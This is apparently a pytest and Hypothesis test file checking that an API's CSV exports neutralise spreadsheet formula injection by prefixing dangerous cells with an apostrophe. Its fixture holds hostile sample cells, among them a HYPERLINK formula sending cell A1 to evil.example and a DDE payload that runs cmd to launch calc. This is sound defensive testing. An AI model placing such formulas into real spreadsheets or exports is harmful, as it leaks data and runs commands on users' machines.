"""CSV exports are safe to open in a spreadsheet: no cell starts a formula, in any export;
what a cell said is kept (behind an apostrophe). Properties checked with Hypothesis."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from matcher.csv_export import FORMULA_STARTS, csv_text, neutralised
from tests.api_fixtures import Api, make_api

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL = {
    "id": "fi-evil",
    "name": HYPERLINK,
    "kind": "sme",
    "country": "FI",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "+heat pumps for apartment blocks and solar modules",
    "offers": ["-2+3 heat pump retrofit"],
    "areas": ["energy_efficiency"],
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def api(tmp_path: Path) -> Api:
    api = make_api(tmp_path)
    staff = api.as_role("staff")
    assert api.client.post("/v1/organisations", json=EVIL, headers=staff).status_code == 201
    note = {"org_id": "ru-housing", "candidate_id": "fi-evil", "verdict": "accept",
            "note": "=1+1"}  # fmt: skip
    assert api.client.post("/v1/feedback", json=note, headers=staff).status_code == 201
    return api


EXPORTS = [
    ("post", "/v1/search?format=csv", {"text": "heat pumps apartment blocks", "k": 20}),
    ("get", "/v1/organisations/ru-housing/partners?k=20&format=csv", None),
    ("get", "/v1/needs/n-meters/matches?k=20&format=csv", None),
    (
        "post",
        "/v1/shortlists?format=csv",
        {"categories": [{"name": "=Heat", "description": "heat pumps"}], "per_category": 5},
    ),
    ("get", "/v1/feedback/export?format=csv", None),
]


@pytest.mark.parametrize(("method", "path", "body"), EXPORTS)
def test_no_export_starts_a_formula(api: Api, method: str, path: str, body: object) -> None:
    response = api.client.request(method, path, json=body, headers=api.as_role("staff"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    found = cells(response.text)
    assert not [c for c in found if dangerous(c) and not is_number(c)]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@") for c in found)


def test_the_organisation_named_like_a_formula_is_shown_as_text(api: Api) -> None:
    response = api.client.post(
        "/v1/search?format=csv",
        json={"text": "heat pumps apartment blocks", "k": 20},
        headers=api.as_role("investor"),
    )
    assert "'" + HYPERLINK in cells(response.text)


def test_numbers_stay_numbers() -> None:
    assert neutralised(-0.25) == -0.25 and neutralised(3) == 3
    assert cells(csv_text([{"score": -0.25, "name": "-x"}])) == ["score", "name", "-0.25", "'-x"]


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.dictionaries(
            st.sampled_from(["name", "note", "why", "city"]),
            st.one_of(
                st.text(),
                st.sampled_from(list(FORMULA_STARTS)).flatmap(
                    lambda s: st.text().map(lambda t: s + t)
                ),
                st.floats(allow_nan=False),
                st.integers(),
            ),
        ),
        max_size=5,
    )
)
def test_any_cells_come_back_as_written_and_none_starts_a_formula(rows: list[dict]) -> None:  # type: ignore[type-arg]
    columns = ["name", "note", "why", "city"]
    text = csv_text(rows, columns)
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == columns and len(parsed) == len(rows) + 1
    for row, back in zip(rows, parsed[1:], strict=True):
        for column, cell in zip(columns, back, strict=True):
            value = row.get(column, "")
            if isinstance(value, str):
                assert not dangerous(cell)
                assert cell == ("'" + value if dangerous(value) else value)
            else:
                assert cell == str(value)  # a number is a number, its sign included
